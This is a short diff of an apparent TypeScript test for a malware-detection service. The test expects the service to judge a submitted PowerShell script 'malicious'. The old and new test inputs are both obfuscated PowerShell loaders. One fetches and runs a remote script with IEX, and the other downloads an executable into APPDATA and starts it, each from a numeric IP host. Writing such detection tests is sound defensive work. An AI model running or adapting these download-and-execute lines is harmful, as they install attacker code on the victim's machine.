@@ -138,7 +138,7 @@ export function mainJob(start: () => Promise<Subject>): void {
           localAction: 'held',
           file: { name: 'update.ps1' },
         });
-      const loader = `$c = New-Object Net.WebClient; $c.Headers.Add('x', '${unique}')\nIEX $c.('Down'+'loadString').Invoke('http://203.0.113.7/a.ps1')`;
+      const loader = `$p = "$env:APPDATA\\${unique}.exe"; (New-Object Net.WebClient).('Down'+'loadFile').Invoke('http://203.0.113.8/${unique}.exe', $p); Start-Process $p`;
       const [hostileResult] = await send(service.url, device('alpha-1'), [script(loader)], 10);
       expect(hostileResult).toMatchObject({
         verdict: 'malicious',
